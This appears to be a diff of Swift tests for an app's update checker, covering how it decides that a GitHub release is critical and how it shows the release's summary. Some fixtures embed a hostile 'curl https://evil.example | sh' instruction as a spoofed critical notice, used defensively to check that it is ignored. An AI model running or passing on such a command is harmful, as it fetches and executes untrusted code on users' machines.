@@ -27,11 +27,13 @@ import Testing
     #expect(plain.critical == nil)
   }
 
-  @Test func aGitHubReleaseIsCriticalByALineOrACautionAlertAtItsTop() throws {
-    let byLine = try #require(
+  @Test func aGitHubReleaseIsCriticalByItsFrontMatterOrACautionAlertAtItsTop() throws {
+    let byFront = try #require(
       try newest(
-        #"[{"tag_name": "v1.1.0", "body": "Fixes.\n\nimportance: critical\nsummary: Tokens leaked."}]"#))
-    #expect(byLine.critical == "1.1.0" && byLine.criticalSummary == "Tokens leaked.")
+        #"[{"tag_name": "v1.1.0", "body": "---\nimportance: critical\nsummary: Tokens leaked.\n---\n\nFixes."}]"#
+      ))
+    #expect(byFront.critical == "1.1.0" && byFront.criticalSummary == "Tokens leaked.")
+    #expect(byFront.notes == "Fixes.", "the front matter is not part of the notes")
     let byAlert = try #require(
       try newest(#"[{"tag_name": "v1.1.0", "body": "> [!CAUTION]\n> Upgrade now: tokens leaked.\n\nMore."}]"#)
     )
@@ -39,6 +41,36 @@ import Testing
     let lower = try #require(
       try newest(#"[{"tag_name": "v1.1.0", "body": "Fixes.\n\n> [!CAUTION]\n> Not at the top."}]"#))
     #expect(lower.critical == nil)
+  }
+
+  /// What a release's body quotes is not a mark (issue 43): `importance: critical` counts in
+  /// its front matter only, not in a fenced code block nor as a line of text.
+  @Test func aMarkInACodeBlockOrTheTextIsNotCritical() throws {
+    for body in [
+      #"Fixes.\n\n```yaml\n---\nimportance: critical\nsummary: Run curl x | sh\n---\n```"#,
+      #"```\nimportance: critical\n```"#, #"Fixes.\n\nimportance: critical\nsummary: Tokens leaked."#,
+    ] {
+      let release = try #require(try newest(#"[{"tag_name": "v1.1.0", "body": "\#(body)"}]"#))
+      #expect(release.critical == nil && release.criticalSummary == nil, "\(body)")
+    }
+  }
+
+  /// A GitHub release marked `"prerelease": true` is not announced to a stable version, even
+  /// with a release version as its tag (issue 43); a pre-release running is offered it.
+  @Test func aGitHubPreReleaseIsNotAnnouncedToAStableVersion() throws {
+    let feed = #"""
+      [{"tag_name": "v1.1.0", "prerelease": true,
+        "body": "```\nimportance: critical\nsummary: Run instead: curl https://evil.example | sh\n```"}]
+      """#
+    #expect(try newest(feed, running: "1.0.0") == nil)
+    let mixed = #"""
+      [{"tag_name": "v1.2.0", "prerelease": true, "body": "---\nimportance: critical\n---\nNew."},
+       {"tag_name": "v1.1.0", "body": "Old."}]
+      """#
+    let stable = try #require(try newest(mixed, running: "1.0.0"))
+    #expect(stable.version == "1.1.0" && stable.critical == nil)
+    let beta = try #require(try newest(mixed, running: "1.1.0-beta.1"))
+    #expect(beta.version == "1.2.0" && beta.critical == "1.2.0")
   }
 
   @Test func aHostileSummaryIsOneCleanLine() throws {
@@ -52,7 +84,7 @@ import Testing
       !summary.unicodeScalars.contains { $0.value < 0x20 || $0 == "\u{7F}" } && !summary.contains("second"))
     let longOne = try #require(
       try newest(#"[{"version": "1.1.0", "importance": "critical", "summary": "\#(long)"}]"#))
-    #expect(longOne.criticalSummary?.count == 200)
+    #expect(longOne.criticalSummary?.count == 100 && longOne.criticalSummary?.hasSuffix("…") == true)
   }
 
   @Test func theCacheKeepsTheCriticalRelease() throws {
@@ -127,7 +159,8 @@ import Testing
       #expect(outcome.shown == .updateCard(version: version("1.2.0"), critical: true))
       let card = try #require(shown)
       #expect(
-        card.contains("Tally 1.2.0 is available") && card.contains("Critical update 1.1.0: Tokens leaked."))
+        card.contains("Tally 1.2.0 is available") && card.contains("Critical update 1.1.0.")
+          && card.contains(#"1.1.0 says: "Tokens leaked.""#), "\(card)")
     }
     // Running 1.1.0: nothing critical is lacking, and 1.2.0 was announced already.
     #expect(launch(greeter("1.1.0", directory: directory)) == nil)
